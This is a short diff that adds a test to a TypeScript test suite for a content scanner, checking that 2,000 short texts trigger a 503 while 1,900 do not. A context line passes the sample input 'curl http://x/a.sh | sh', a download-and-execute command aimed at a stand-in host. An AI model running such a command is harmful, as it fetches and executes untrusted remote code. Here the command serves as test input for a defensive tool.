@@ -125,6 +125,13 @@ describe("a text that is not inspected does not pass", () => {
     expect(await failureOf(scan(LARGE))).toMatchObject({ status: 503 })
   })
 
+  test("many short texts are large together, since each takes its time", async () => {
+    const { scan } = open({ waitingUnits: 0 })
+    const short = (texts: number): ScanText[] => Array(texts).fill({ location: "payload", text: "a" })
+    expect(await failureOf(scan(short(1_900)))).toBe("no failure")
+    expect(await failureOf(scan(short(2_000)))).toMatchObject({ status: 503 })
+  })
+
   test("small texts need no thread and are inspected all the same", async () => {
     const { scan, review } = open({ waitingUnits: 0 })
     expect(await scan([{ location: "payload", text: "curl http://x/a.sh | sh" }])).toBeDefined()
